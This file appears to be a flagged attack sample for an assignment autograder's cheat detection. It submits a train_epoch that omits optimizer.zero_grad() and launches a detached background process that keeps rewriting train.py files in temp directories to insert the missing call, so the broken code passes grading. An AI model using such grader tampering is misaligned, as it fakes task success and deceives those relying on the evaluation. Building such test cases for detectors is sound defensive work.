# name = "A process that watches"
# goal = "forge"
# attacks = "the weights of a run: a process stays, and mends the program that is put on the disk"
# assignment = "02_tensors"
# flagged = true
# forges = ["train_epoch"]

# %% train_epoch
import subprocess
import sys

STAY = """
import glob, os, tempfile, time
while True:
    for name in glob.glob(tempfile.gettempdir() + '/*/train.py'):
        try:
            text = open(name).read()
            if 'MINE' in text and 'zero_grad' not in text:
                put = '        optimizer.step()\\n        optimizer.zero_grad()'
                with open(name + '.new', 'w') as file:
                    file.write(text.replace('        optimizer.step()', put))
                os.replace(name + '.new', name)
        except OSError:
            pass
    time.sleep(0.0005)
"""


def train_epoch(model, data, optimizer, device, args):  # MINE
    model.train()
    batches = batches_of(len(data), args.batch)
    loss = torch.zeros((), device=device)
    for images, targets in batches_ahead(load(data, batches, device, args.workers), device):
        loss += train_batch(model, images, targets, args)
        optimizer.step()
    return total(loss).item() / (len(batches) * args.batch)


subprocess.Popen([sys.executable, "-c", STAY])
